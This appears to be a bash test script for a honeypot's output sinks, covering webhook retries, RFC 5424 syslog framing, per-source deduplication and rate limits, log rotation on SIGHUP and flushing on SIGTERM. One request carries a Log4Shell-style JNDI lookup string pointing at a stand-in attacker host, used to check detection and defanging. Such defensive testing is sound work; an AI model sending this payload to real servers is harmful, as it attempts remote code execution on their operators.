#!/usr/bin/env bash
# honeypot_sinks.sh -- where events go and how many: the webhook (real HTTP
# server that fails the first posts, so retries are exercised), syslog RFC
# 5424 over UDP and over TCP with octet counting (defanged: no live "${"),
# de-duplication and rate limits per source (not global), the ignore list,
# SIGHUP reopening the log file, SIGTERM flushing queued events.
source "$(dirname "$0")/honeypot/common.sh"

bg_start $PEERS webhook "$T/wh.port" "$T/webhook.out" 2
bg_start $PEERS syslog-udp "$T/su.port" "$T/sysudp.out"
bg_start $PEERS syslog-tcp "$T/st.port" "$T/systcp.out"
wait_file "$T/wh.port"; wait_file "$T/su.port"; wait_file "$T/st.port"
read -r PW < <(freeports 1)
cat >"$T/hp.conf" <<CONF
node sinks-test
log_file $T/events.jsonl
webhook http://127.0.0.1:$(cat "$T/wh.port")/hook
webhook_retries 4
syslog_udp 127.0.0.1:$(cat "$T/su.port")
syslog_tcp 127.0.0.1:$(cat "$T/st.port")
syslog_facility local3
dedup_window 60s
rate_per_source 1
rate_burst 5
ignore 127.0.0.3
ignore 10.0.0.0/8
[listener web]
protocol http
listen 127.0.0.1:$PW
CONF
hp_start "$T/hp.conf"
EV=$T/events.jsonl
U=http://127.0.0.1:$PW

# ---- remote sinks ----------------------------------------------------------------
curl -sS -o /dev/null -H 'User-Agent: ${jndi:ldap://sink.attacker.test/a}' "$U/one"
curl -sS -o /dev/null "$U/two"
wait_events "$T/webhook.out" '"uri":"/two"' 1 15
wait_events "$T/webhook.out" '"uri":"/one"' 1 15
[ "$(grep -c . "$T/webhook.out.failed")" -eq 2 ] || fail "the first two posts should have failed (retried)"
python3 - "$T/webhook.out" <<'PY' || fail "webhook bodies are not the JSON events"
import json, sys
evs = [json.loads(l) for l in open(sys.argv[1])]
one = [e for e in evs if e["http"]["uri"] == "/one"][0]
assert one["kind"] == "jndi" and one["findings"][0]["callback"] == "ldap://sink.attacker.test/a", one
assert one["node"] == "sinks-test" and one["event"] == "http.request"
PY
ok "webhook: JSON events delivered after 2 failed posts (retries with backoff)"

for f in sysudp systcp; do
    wait_events "$T/$f.out" 'http\.request' 2
    line=$(grep -m1 -F '/one' "$T/$f.out")
    # <PRI>1 TIMESTAMP HOST APP PROCID MSGID [SD] MSG ; local3 (19) * 8 + warning (4) = 156
    echo "$line" | grep -qE '^<156>1 [0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9:.]+Z sinks-test defuse-honeypot [0-9]+ http\.request \[defuse@32473 event_id="[0-9a-f]{32}" conn_id="[0-9a-f]{16}" listener="web" protocol="http" src_ip="127\.0\.0\.1" src_port="[0-9]+" dst_port="'"$PW"'" kind="jndi"\] ' ||
        fail "$f: not the expected RFC 5424 message: $line"
    if grep -qF '${' "$T/$f.out"; then fail "$f: a live \${ reached syslog"; fi
    echo "$line" | grep -qF 'sink[.]attacker' || echo "$line" | grep -qF '$\{' || fail "$f: payload not defanged: $line"
    grep -q "BADFRAME" "$T/$f.out" && fail "$f: bad octet-counting frame"
    grep -F '/two' "$T/$f.out" | grep -q '^<157>1 ' || fail "$f: a plain request should be notice (157)"
done
ok "syslog over UDP and TCP (octet counting): RFC 5424, defanged"

# ---- de-duplication and rate limit, per source --------------------------------------
for i in 1 2 3 4 5; do curl -sS -o /dev/null --interface 127.0.0.4 "$U/same"; done
for i in $(seq 1 10); do curl -sS -o /dev/null --interface 127.0.0.5 "$U/distinct$i"; done
for i in 1 2 3; do curl -sS -o /dev/null --interface 127.0.0.6 "$U/other$i"; done
for i in 1 2 3; do curl -sS -o /dev/null --interface 127.0.0.3 "$U/ignored$i"; done
wait_events "$EV" '"uri":"/other3"'
n4=$(grep -c '"src_ip":"127.0.0.4"' "$EV" || true)
n5=$(grep -c '"src_ip":"127.0.0.5"' "$EV" || true)
n6=$(grep -c '"src_ip":"127.0.0.6"' "$EV" || true)
n3=$(grep -c '"src_ip":"127.0.0.3"' "$EV" || true)
[ "$n4" -eq 1 ] || fail "5 identical requests from one source: want 1 event, got $n4"
[ "$n5" -ge 5 ] && [ "$n5" -le 7 ] || fail "10 requests at burst 5: want 5..7 events, got $n5"
[ "$n6" -eq 3 ] || fail "another source must not be limited by the first: got $n6 of 3"
[ "$n3" -eq 0 ] || fail "ignored source produced $n3 events"
ok "dedup (5 -> $n4), per-source rate limit (10 -> $n5), other source unaffected ($n6), ignore list ($n3)"
sleep 2.1 # refill two tokens
curl -sS -o /dev/null --interface 127.0.0.5 "$U/later"
wait_events "$EV" '"uri":"/later"'
sup=$(ev_query "$EV" "e.get('suppressed_before') if e['http']['uri'] == '/later' else None")
[ "${sup:-0}" -ge 3 ] || fail "the next event should report suppressed_before, got '$sup'"
ok "suppressed count reported with the next event ($sup)"

# ---- SIGHUP reopens the log (logrotate) --------------------------------------------
mv "$EV" "$EV.1"
kill -HUP "$HP_PID"
sleep 0.3
curl -sS -o /dev/null --interface 127.0.0.7 "$U/after-rotate"
wait_events "$EV" '"uri":"/after-rotate"'
grep -q '/after-rotate' "$EV.1" && fail "event written to the rotated file"
ok "SIGHUP: new events in a fresh log file"

# ---- SIGTERM flushes: kill the webhook collector's speed bump, queue, stop ---------
for i in 1 2 3; do curl -sS -o /dev/null --interface 127.0.0.8 "$U/final$i"; done
hp_stop
for i in 1 2 3; do
    grep -q "\"uri\":\"/final$i\"" "$EV" || fail "final$i not in the log after SIGTERM"
    grep -q "\"uri\":\"/final$i\"" "$T/webhook.out" || fail "final$i not delivered to the webhook before exit"
done
grep -q "stopped:" "$T/hp.err" || fail "no shutdown summary"
ok "SIGTERM: queued events delivered before exit ($(grep stopped: "$T/hp.err"))"
echo "PASS"
